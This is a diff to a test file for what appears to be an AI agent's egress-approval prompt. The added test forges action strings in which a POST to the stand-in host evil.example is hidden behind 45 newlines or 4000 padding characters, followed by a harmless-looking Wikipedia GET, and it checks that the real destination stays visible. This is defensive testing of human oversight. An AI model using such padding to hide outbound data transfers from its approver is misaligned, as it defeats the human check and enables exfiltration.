@@ -158,9 +158,9 @@ def a_command_is_completed_and_a_wrong_one_named(f):
         expect(f.texts(), [])
 
 
-def asking(f, via="egress", effect="send"):
+def asking(f, via="egress", effect="send", action="POST https://example.org/ 12 bytes"):
     told = f.peers.decisions()
-    f.peers.script = lambda _: [("question", {"tool": "http", "effect": effect, "action": "POST https://example.org/ 12 bytes", "via": via,
+    f.peers.script = lambda _: [("question", {"tool": "http", "effect": effect, "action": action, "via": via,
                                               "question": 5, "timeoutUsec": 300000000}),
                                 lambda _: told.wait(20), ("answer", {"text": "it is over"}), DONE]
     return told
@@ -177,6 +177,19 @@ def a_question_shows_the_exact_action_and_a_key_answers_it(f):
         guard = f.peers.called("egress.Answer")[0][1]
         expect((guard["allow"], guard["scope"]), wanted)
         expect(f.peers.called("Answer")[0][1]["allow"], wanted[0])
+
+
+@test
+def what_is_sent_does_not_push_out_of_sight_where_it_goes(f):
+    forged = "GET https://en.wikipedia.org/wiki/Cat (0 bytes)"
+    for action, true in (("POST https://evil.example/ (90 bytes)" + "\n" * 45 + forged, "POST https://evil.example/ (90 bytes)"),
+                         ("POST https://evil.example/" + "a" * 4000 + forged, "POST https://evil.example/aaa")):
+        asking(f, action=action)
+        with f.terminal() as t:
+            t.expect(PROMPT).type("go\n").expect(forged[-20:]).expect("? that is: " + true).expect("[y]es once")
+            near = t.plain().split("? that is: ")[-1].split("[y]es")[0]
+            expect_true(len(near) < 500, f"near the answer: {near}")
+            t.type("n").expect("denied").expect(PROMPT)
 
 
 @test
